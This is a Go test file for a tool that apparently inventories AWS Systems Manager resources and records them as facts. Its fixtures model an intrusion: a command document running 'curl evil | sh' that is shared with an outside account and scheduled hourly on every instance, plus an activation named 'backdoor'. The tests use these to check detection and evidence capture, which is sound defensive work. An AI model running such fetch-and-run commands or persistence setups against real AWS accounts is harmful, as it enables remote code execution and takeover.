package kinds

import (
	"slices"
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ssm"
	"github.com/aws/aws-sdk-go-v2/service/ssm/types"

	"cordon/internal/fact"
	"cordon/internal/kind/kindtest"
)

func ssmOf(w kindtest.World) *ssm.Client { return ssm.NewFromConfig(w.Config(here)) }

func makeSSMDocument(t *testing.T, w kindtest.World) string {
	t.Helper()
	must[*ssm.CreateDocumentOutput](t)(ssmOf(w).CreateDocument(t.Context(), &ssm.CreateDocumentInput{
		Name: aws.String("run-it"), DocumentType: types.DocumentTypeCommand, DocumentFormat: types.DocumentFormatJson,
		Content: aws.String(`{"schemaVersion":"2.2","description":"run","mainSteps":[{"action":"aws:runShellScript","name":"go","inputs":{"runCommand":["curl evil | sh"]}}]}`),
	}))
	must[*ssm.ModifyDocumentPermissionOutput](t)(ssmOf(w).ModifyDocumentPermission(t.Context(), &ssm.ModifyDocumentPermissionInput{
		Name: aws.String("run-it"), PermissionType: types.DocumentPermissionTypeShare, AccountIdsToAdd: []string{stranger},
	}))
	return "run-it"
}

func TestSSMDocument(t *testing.T) {
	kindtest.Run(t, kindtest.Case[ssmDocumentReader, ssmDocumentWriter]{Spec: ssmDocumentSpec, Region: here, Setup: makeSSMDocument})
	w := kindtest.NewWorld(t)
	r := listed(t, w, ssmDocument, makeSSMDocument(t, w))
	wantSharing(t, r, false, stranger)
	kept := map[string]string{}
	if err := ssmDocument.Keep(t.Context(), w.Config(here), r, func(n string, b []byte) error { kept[n] = string(b); return nil }); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(kept["content.txt"], "curl evil") || r.Created.IsZero() {
		t.Errorf("made %v, kept %v", r.Created, kept)
	}
}

func makeSSMAssociation(t *testing.T, w kindtest.World) string {
	t.Helper()
	makeSSMDocument(t, w)
	out := must[*ssm.CreateAssociationOutput](t)(ssmOf(w).CreateAssociation(t.Context(), &ssm.CreateAssociationInput{
		Name: aws.String("run-it"), AssociationName: aws.String("hourly"), ScheduleExpression: aws.String("rate(1 hour)"),
		Targets: []types.Target{{Key: aws.String("InstanceIds"), Values: []string{"*"}}},
	}))
	return aws.ToString(out.AssociationDescription.AssociationId)
}

func TestSSMAssociation(t *testing.T) {
	kindtest.Run(t, kindtest.Case[ssmAssociationReader, ssmAssociationWriter]{Spec: ssmAssociationSpec, Region: here, Setup: makeSSMAssociation})
	w := kindtest.NewWorld(t)
	r := listed(t, w, ssmAssociation, makeSSMAssociation(t, w))
	want := []fact.Ref{{Kind: "ssm.document", Place: r.Place, ID: "run-it"}}
	if held := ssmAssociation.Holds(r); !slices.Equal(held, want) || r.Created.IsZero() || fact.Detail.Or(r, "") != "run-it rate(1 hour)" {
		t.Errorf("holds %v; %s", held, r.Facts)
	}
	fact.AttachedTo.Set(&r, "AWS-RunShellScript")
	if held := ssmAssociation.Holds(r); held != nil {
		t.Errorf("holds AWS's own document: %v", held)
	}
}

func makeSSMActivation(t *testing.T, w kindtest.World) string {
	t.Helper()
	out := must[*ssm.CreateActivationOutput](t)(ssmOf(w).CreateActivation(t.Context(), &ssm.CreateActivationInput{
		IamRole: aws.String("service-role/ssm"), RegistrationLimit: aws.Int32(5), DefaultInstanceName: aws.String("backdoor"),
	}))
	return aws.ToString(out.ActivationId)
}

func TestSSMActivation(t *testing.T) {
	kindtest.Run(t, kindtest.Case[ssmActivationReader, ssmActivationWriter]{Spec: ssmActivationSpec, Region: here, Setup: makeSSMActivation})
	w := kindtest.NewWorld(t)
	r := listed(t, w, ssmActivation, makeSSMActivation(t, w))
	if !fact.Active.Or(r, false) || fact.Role.Or(r, "") != "arn:aws:iam::"+kindtest.Account+":role/service-role/ssm" || r.Created.IsZero() {
		t.Errorf("%s", r.Facts)
	}
}

func makeSSMParameter(t *testing.T, w kindtest.World) string {
	t.Helper()
	must[*ssm.PutParameterOutput](t)(ssmOf(w).PutParameter(t.Context(), &ssm.PutParameterInput{
		Name: aws.String("/app/key"), Value: aws.String("hunter2"), Type: types.ParameterTypeSecureString,
	}))
	return "/app/key"
}

func TestSSMParameter(t *testing.T) {
	kindtest.Run(t, kindtest.Case[ssmParameterReader, ssmParameterWriter]{Spec: ssmParameterSpec, Region: here, Setup: makeSSMParameter})
	w := kindtest.NewWorld(t)
	id := makeSSMParameter(t, w)
	r := listed(t, w, ssmParameter, id)
	if r.Created.IsZero() || !fact.Encrypted.Or(r, false) {
		t.Errorf("made %v; %s", r.Created, r.Facts)
	}
	must[*ssm.PutParameterOutput](t)(ssmOf(w).PutParameter(t.Context(), &ssm.PutParameterInput{
		Name: &id, Value: aws.String("hunter3"), Type: types.ParameterTypeSecureString, Overwrite: aws.Bool(true),
	}))
	if r := listed(t, w, ssmParameter, id); !r.Created.IsZero() || fact.Modified.Or(r, r.Created).IsZero() {
		t.Errorf("a second version is said to be made on %v", r.Created)
	}
}

func makeSSMSession(t *testing.T, w kindtest.World) string {
	t.Helper()
	out := must[*ssm.StartSessionOutput](t)(ssmOf(w).StartSession(t.Context(), &ssm.StartSessionInput{Target: aws.String("i-0123456789abcdef0")}))
	return aws.ToString(out.SessionId)
}

func TestSSMSession(t *testing.T) {
	kindtest.Run(t, kindtest.Case[ssmSessionReader, ssmSessionWriter]{Spec: ssmSessionSpec, Region: here, Setup: makeSSMSession})
	w := kindtest.NewWorld(t)
	r := listed(t, w, ssmSession, makeSSMSession(t, w))
	if fact.Maker.Or(r, "") != "arn:aws:iam::"+kindtest.Account+":root" || fact.AttachedTo.Or(r, "") != "i-0123456789abcdef0" {
		t.Errorf("%s", r.Facts)
	}
}
